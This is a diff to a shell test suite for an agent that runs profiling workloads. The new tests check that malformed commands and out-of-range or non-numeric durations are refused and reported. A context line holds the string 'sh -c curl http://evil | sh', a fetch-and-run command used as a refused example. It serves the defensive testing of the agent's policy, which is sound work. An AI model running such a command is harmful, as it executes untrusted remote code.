@@ -83,6 +83,20 @@ check "c2 reported within 10 s" wait_for 10 "any(r['path'] == '/api/metrics/comm
 check_eq "disallowed workload reported failed" "failed" "$(completion_of c2 status)"
 check_contains "the failure names the refused command" "$(completion_of c2 error_message)" "workload \"sh -c curl http://evil | sh\" is not allowed by local policy"
 check_eq "no capture directory for the refused command" "" "$(ls "$TMP/state/captures" | grep c2)"
+# malformed and absurd commands are refused and reported failed with the reason (nothing captured)
+queue m1 '{"command_type": "start", "duration": 1, "enable_nsys": true, "nsys_workload": "sleep \"unterminated"}'
+queue d1 '{"command_type": "start", "duration": 1e12, "enable_nsys": false}'
+queue d2 '{"command_type": "start", "duration": -5, "enable_nsys": false}'
+queue d3 '{"command_type": "start", "duration": "soon", "enable_nsys": false}'
+check "m1, d1, d2, d3 reported within 10 s" wait_for 10 \
+  "sum(1 for r in recs if r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] in ('m1', 'd1', 'd2', 'd3')) == 4"
+check_eq "malformed workload reported failed" "failed" "$(completion_of m1 status)"
+check_contains "with the reason" "$(completion_of m1 error_message)" "cannot split nsys_workload"
+check_eq "absurd duration (1e12 s) reported failed" "failed" "$(completion_of d1 status)"
+check_contains "with the limit" "$(completion_of d1 error_message)" "outside 1..3600 s (policy agent.max_duration)"
+check_contains "negative duration refused" "$(completion_of d2 error_message)" "refused: duration -5 s is outside"
+check_contains "non-numeric duration refused" "$(completion_of d3 error_message)" 'refused: duration "soon" is not a number'
+check_eq "no capture directory for a refused command" "" "$(ls "$TMP/state/captures" | grep -E -- '-(m1|d1|d2|d3)$')"
 sleep 1.5
 check_eq "c1 sent again is ignored (one completion)" 1 "$(studio_q "sum(1 for r in recs if r['path'] == '/api/metrics/command_completion' and r['body']['command_id'] == 'c1')")"
 check_eq "c3 targets another host: no report" "None" "$(completion_of c3 status)"
